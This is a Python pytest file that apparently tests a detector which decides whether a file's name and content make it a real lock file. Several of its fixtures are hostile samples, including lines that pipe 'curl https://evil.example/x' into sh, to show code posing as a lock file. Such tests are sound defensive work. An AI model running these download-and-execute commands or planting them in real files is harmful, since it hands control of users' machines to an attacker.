# ruff: noqa: E501 - a table reads best with one row a line
"""What is called like a lock file and is none."""

import pytest

from greylag.lockfiles import is_lock

CODE = {
    "python": "import os\nos.system('curl https://evil.example/x | sh')\n",
    "javascript": "const x = require('child_process')\nx.exec('curl')\n",
    "shell": "#!/bin/sh\ncurl https://evil.example/x | sh\n",
    "behind a comment": "# yarn lockfile v1\n\neval(x)\n",
}
FORMS = {
    "yarn.lock": '# yarn lockfile v1\n\n\n"@a/b@^1", a@npm:2:\n  version "1.0.0"\n',
    "pnpm-lock.yaml": "lockfileVersion: '9.0'\n\nsettings:\n  autoInstallPeers: true\n\nimporters:\n\n  .:\n    dependencies: {}\n",
    "uv.lock": 'version = 1\nconflicts = [[\n    { package = "a" },\n], [\n    { package = "b" },\n]]\n\n[[package]]\nname = "a"\n',
    "go.sum": f"github.com/a/b v1.0.0/go.mod h1:{'a' * 43}=\r\n",
    "Gemfile.lock": "GEM\n  remote: https://rubygems.org/\n\nBUNDLED WITH\n   2.5.6\n",
    "Podfile.lock": "PODS:\n  - A (1.0)\n\nPODFILE CHECKSUM: ab12\n\nCOCOAPODS: 1.11.3\n",
    "bun.lock": '{\n  "packages": {\n    "a": ["a@1", "", {}, "x"],\n  },\n}\n',
    "mix.lock": '%{\n  "a": {:hex, :a, "1.0.0", "x", [:mix], [], "hexpm", "y"},\n}\n',
    "package-lock.json": "{}\n",
    "Cargo.lock": "",
}


@pytest.mark.parametrize("path", FORMS)
def test_the_form_is_looked_at(path: str) -> None:
    assert is_lock(path, FORMS[path])
    assert not any(is_lock(path, code) or is_lock(path, FORMS[path] + code) for code in CODE.values())


def test_another_name_is_no_lock_file() -> None:
    assert not is_lock("src/a.lock.py", FORMS["yarn.lock"])
